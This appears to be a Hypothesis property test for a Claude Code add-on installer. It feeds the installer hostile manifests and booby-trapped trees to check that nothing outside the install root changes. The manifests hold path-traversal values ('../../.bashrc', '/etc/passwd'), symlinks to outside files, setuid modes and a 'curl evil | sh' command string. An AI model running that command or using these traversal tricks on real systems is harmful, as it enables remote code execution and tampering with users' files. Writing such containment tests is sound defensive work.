"""Any manifest content, in any tree: nothing outside the root and the named config files moves.

Hypothesis writes a manifest of the real shape (and a few that are not) into a cloned
project's ``.claude``, full of hostile values: absolute paths, ``..``, paths through symlinks
planted in the tree, outside files listed with their real hashes, backups pointing anywhere,
symlink backups to ``/etc/passwd``, config records for files Claude Code never reads from
this project, ops whose text would add entries. It also plants links, a FIFO and a lock link
in the tree. Then ``--check``, ``doctor``, ``--uninstall`` and a plain install run through
``msd_install.cli.main`` with HOME in the example's directory.

After every command: the "outside" tree and the home (minus the root and the two config files
a local Claude install may edit: ``.claude/settings.json`` inside the root and the project's
``.mcp.json``) are byte-identical, links included; no new symlink exists anywhere; no file
gained a setuid/setgid bit; the state directory holds at most msd's own record; the exit
code is 0, 1 or 4, and a 4 is one line on stderr.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from helpers import snapshot
from msd_install.cli import main
from msd_install.installer.configedit import value_hash
from msd_install.installer.context import LOCAL, Context
from msd_install.payload import load
from msd_install.runtimes import ADAPTERS

_PLAN = ADAPTERS["claude"].plan(Context(home=Path("/h"), cwd=Path("/p"), scope=LOCAL), load())
OUR = {f.path.relative_to("/p/.claude").as_posix(): f.content for f in _PLAN.files}
PLANNER, GUARD = OUR["agents/msd-planner.md"], OUR["hooks/msd-read-guard.py"]
DB = {"command": "db-mcp"}
PERMS = {"allow": ["Bash(make)"]}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


HASHES = [
    sha(b"precious\n"),
    sha(b"my bashrc\n"),
    sha(PLANNER),
    sha(GUARD),
    sha(b"mine\n"),
    sha(b"x = 1\n"),
    "0" * 64,
    "nothex",
]
VALUE_HASHES = [value_hash(DB), value_hash(PERMS), value_hash({}), value_hash([]), "1" * 64]
GOOD_PATHS = [
    "agents/msd-planner.md",
    "agents/msd-debugger.md",
    "hooks/msd-read-guard.py",
    "a.md",
    "lnk/victim.txt",
    "lnk/agents/msd-planner.md",
    "skills/msd-help/SKILL.md",
    "msd-core/cache/x.json",
]
BAD_PATHS = [
    "../../../outside/victim.txt",
    "../../.bashrc",
    "../../.claude.json",
    "../.mcp.json",
    "../src/app.py",
    "/etc/passwd",
    "@OUTSIDE@/victim.txt",
    ".",
    "..",
    "../..",
    "a//b",
    "a\\..\\b",
    "x\x00y",
    "x\ny",
    "~/.bashrc",
    "C:/x",
    "msd-file-manifest.json",
    ".msd-install.lock",
    "settings.json",
    "msd-backups/a.md",
    "msd-core/cache/msd-update-check.json",
    "",
    "lnk",
    "lnk/../../../outside/victim.txt",
]
CONFIG_FILES = ["settings.json", "../.mcp.json"]
HOSTILE_CONFIG = ["../../.claude.json", "../../.bashrc", "/etc/hosts", "@OUTSIDE@/mcp.json"]
LINKS = ["/etc/passwd", "@OUTSIDE@/victim.txt", "../../../outside", "x"]
TWEAKS = ["lnk", "agents", "backups", "backup-file", "mcp", "settings", "lock", "pycache", "fifo"]

paths = st.one_of(st.sampled_from(GOOD_PATHS + BAD_PATHS), st.text(max_size=8))
good_paths = st.sampled_from(GOOD_PATHS)
good_modes = st.sampled_from([0o644, 0o755, 0o4755, 0o6777, 0])
modes = st.one_of(good_modes, st.sampled_from([-1, 0o10000, True, "644"]))
hashes = st.one_of(st.sampled_from(HASHES), st.text(max_size=4))
keys = st.sampled_from(["mcpServers", "hooks", "PreToolUse", "statusLine", "permissions", "db"])


def ops(wild: bool) -> st.SearchStrategy[dict[str, Any]]:
    """Config ops; the tame ones pass validation (and so run, restricted), wild ones may not."""
    kinds = ["member", "item", "replace"] + (["delete"] if wild else [])
    interiors = ["", "\n  "] + (['"hooks": {"X": []}', "// c\n", "\x1b"] if wild else [])
    previous = ['"x"', '{"command": "curl evil | sh"}'] + (['1, "a": 2', "{"] if wild else [])
    return st.fixed_dictionaries(
        {
            "op": st.sampled_from(kinds),
            "path": st.lists(keys, max_size=2),
            "sha256": st.sampled_from(VALUE_HASHES),
            "key": keys,
            "previous": st.sampled_from(previous),
        },
        optional={
            "interior": st.sampled_from(interiors),
            "marker": st.sampled_from(["db-mcp", "Bash(make)", "x", "curl"]),
            "label": st.sampled_from(["l", "\x1b[2J"] if wild else ["l"]),
        },
    )


def config(files: st.SearchStrategy[str], wild: bool) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "file": files,
            "fmt": st.sampled_from(["json", "jsonc"]),
            "created": st.booleans(),
            "ops": st.lists(ops(wild), max_size=3),
        }
    )


def backup(files: st.SearchStrategy[str], wild: bool) -> st.SearchStrategy[dict[str, Any]]:
    return files.flatmap(
        lambda p: st.fixed_dictionaries(
            {
                "path": st.just(p) if not wild else st.one_of(st.just(p), paths),
                "backup": st.one_of(
                    st.just(f"msd-backups/{p}"), st.just(""), *([paths] if wild else [])
                ),
            },
            optional={"mode": modes if wild else good_modes, "link": st.sampled_from(LINKS)},
        )
    )


@st.composite
def manifests(draw: st.DrawFn) -> Any:
    """Mostly well-formed manifests (so that many pass validation and run restricted), and
    wild ones (so that every field meets every hostile value)."""
    wild = draw(st.booleans())
    names = paths if wild else good_paths
    files = draw(
        st.dictionaries(
            names,
            st.fixed_dictionaries(
                {
                    "sha256": hashes if wild else st.sampled_from(HASHES[:-1]),
                    "mode": modes if wild else good_modes,
                },
                optional={"adopted": st.booleans()},
            ),
            max_size=4,
        )
    )
    own = st.sampled_from(sorted(files)) if files else good_paths
    config_files = st.sampled_from(CONFIG_FILES + (HOSTILE_CONFIG if wild else []))
    doc: dict[str, Any] = {
        "format": draw(st.sampled_from([1, 1, 1, 0, 2, True])) if wild else 1,
        "installer_version": "0.1.0",
        "runtime": "claude",
        "scope": "local",
        "files": files,
        "config": draw(
            st.lists(config(config_files, wild), max_size=2, unique_by=lambda c: c["file"])
        ),
        "backups": draw(st.lists(backup(own, wild), max_size=3, unique_by=lambda b: b["path"])),
        "dirs": draw(
            st.lists(
                st.one_of(
                    st.sampled_from([".", "..", "../..", "hooks", "lnk"]),
                    paths if wild else good_paths,
                ),
                max_size=4,
            )
        ),
        "state": draw(
            st.lists(
                st.one_of(
                    st.just("msd-core/cache/msd-update-check.json"), *([paths] if wild else [])
                ),
                max_size=2 if wild else 1,
            )
        ),
        "interpreter": draw(st.sampled_from(["/usr/bin/python3", ""] + (["py"] if wild else []))),
    }
    return draw(st.sampled_from([doc] * 8 + ["not json {", [doc]])) if wild else doc


def build_tree(ws: Path, tweaks: set[str]) -> tuple[Path, Path, Path]:
    home, outside = ws / "home", ws / "outside"
    project, root = home / "proj", home / "proj/.claude"
    files = {
        home / ".bashrc": b"my bashrc\n",
        home / ".claude.json": b'{\n  "mcpServers": {"g": {"command": "x"}}\n}\n',
        home / ".ssh/id_ed25519": b"secret key\n",
        project / "src/app.py": b"x = 1\n",
        project / ".mcp.json": b'{\n  "mcpServers": {\n    "db": {"command": "db-mcp"}\n  }\n}\n',
        root / "settings.json": b'{\n  "permissions": {"allow": ["Bash(make)"]}\n}\n',
        root / "agents/msd-planner.md": PLANNER,
        root / "agents/msd-debugger.md": OUR["agents/msd-debugger.md"],
        root / "hooks/msd-read-guard.py": GUARD,
        root / "a.md": b"mine\n",
        root / "msd-backups/a.md": b"the original\n",
        outside / "victim.txt": b"precious\n",
        outside / "agents/msd-planner.md": PLANNER,
        outside / "agents/msd-debugger.md": OUR["agents/msd-debugger.md"],
        outside / "backups/a.md": b"outside bytes\n",
        outside / "mcp.json": b'{"mcpServers": {"db": {"command": "db-mcp"}}}\n',
        outside / "settings.json": b'{"permissions": {"allow": ["Bash(make)"]}}\n',
        outside / "lockvictim": b"do not overwrite\n",
        outside / "pycache/msd-read-guard.cpython-311.pyc": b"pyc\n",
    }
    for path, data in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (ws / "state").mkdir()
    if "lnk" in tweaks:
        (root / "lnk").symlink_to(outside)
    if "agents" in tweaks:
        shutil.rmtree(root / "agents")
        (root / "agents").symlink_to(outside / "agents")
    if "backups" in tweaks:
        shutil.rmtree(root / "msd-backups")
        (root / "msd-backups").symlink_to(outside / "backups")
    elif "backup-file" in tweaks:
        (root / "msd-backups/a.md").unlink()
        (root / "msd-backups/a.md").symlink_to(outside / "victim.txt")
    if "mcp" in tweaks:
        (project / ".mcp.json").unlink()
        (project / ".mcp.json").symlink_to(outside / "mcp.json")
    if "settings" in tweaks:
        (root / "settings.json").unlink()
        (root / "settings.json").symlink_to(outside / "settings.json")
    if "lock" in tweaks:
        (root / ".msd-install.lock").symlink_to(outside / "lockvictim")
    if "pycache" in tweaks:
        (root / "hooks/__pycache__").symlink_to(outside / "pycache")
    if "fifo" in tweaks and "agents" not in tweaks:
        (root / "agents/msd-debugger.md").unlink()
        os.mkfifo(root / "agents/msd-debugger.md")
    return home, project, outside


@contextlib.contextmanager
def environment(home: Path, state: Path, cwd: Path) -> Iterator[None]:
    saved_env, saved_cwd = dict(os.environ), Path.cwd()
    for name in [n for n in os.environ if n.startswith(("CLAUDE", "XDG_"))]:
        del os.environ[name]
    os.environ.update(HOME=str(home), XDG_STATE_HOME=str(state))
    os.chdir(cwd)
    try:
        yield
    finally:
        os.chdir(saved_cwd)
        os.environ.clear()
        os.environ.update(saved_env)


def run(args: list[str]) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    code: Any = 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(args)
        except SystemExit as exc:
            code = exc.code
    return int(code or 0), err.getvalue()


def links(top: Path) -> set[tuple[str, str]]:
    found = set()
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if path.is_symlink():
                found.add((str(path), os.readlink(path)))
    return found


def special_bits(top: Path) -> list[str]:
    out = []
    for dirpath, _dirs, filenames in os.walk(top):
        for name in filenames:
            st_mode = os.lstat(Path(dirpath) / name).st_mode
            if stat.S_ISREG(st_mode) and st_mode & (stat.S_ISUID | stat.S_ISGID):
                out.append(str(Path(dirpath) / name))
    return out


def home_view(home: Path) -> dict[str, Any]:
    """The home without what a local Claude install may change: its root and its configs."""
    return {
        k: v
        for k, v in snapshot(home).items()
        if not (k.startswith("proj/.claude/") or k in ("proj/.claude", "proj/.mcp.json"))
    }


COMMANDS = [
    ["--claude", "--local", "--yes", "--check"],
    ["doctor"],
    ["--claude", "--local", "--yes", "--uninstall"],
    ["--claude", "--local", "--yes"],
]


@settings(
    max_examples=60,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(doc=manifests(), tweaks=st.sets(st.sampled_from(TWEAKS), max_size=3))
def test_no_manifest_reaches_outside_the_root(tmp_path: Path, doc: Any, tweaks: set[str]) -> None:
    ws = Path(tempfile.mkdtemp(dir=tmp_path))
    try:
        home, project, outside = build_tree(ws, tweaks)
        text = json.dumps(doc).replace("@OUTSIDE@", str(outside))
        manifest = project / ".claude/msd-file-manifest.json"
        manifest.write_text(text)
        outside_before, home_before = snapshot(outside), home_view(home)
        links_before = links(ws)
        with environment(home, ws / "state", project):
            for args in COMMANDS:
                if not manifest.exists() and (project / ".claude").is_dir():
                    manifest.write_text(text)  # the install meets the hostile manifest too
                code, err = run(args)
                event(f"{args[-1]} exit {code}")
                assert code in (0, 1, 4), (args, code, err)
                if code == 4:
                    assert len(err.splitlines()) == 1 and "internal error" not in err, err
                assert snapshot(outside) == outside_before, args
                assert home_view(home) == home_before, args
                assert links(ws) <= links_before, args
                assert special_bits(ws) == [], args
                state = {p.relative_to(ws / "state").as_posix() for p in (ws / "state").rglob("*")}
                assert state <= {"msd", "msd/manifests.json"}, state
    finally:
        shutil.rmtree(ws, ignore_errors=True)
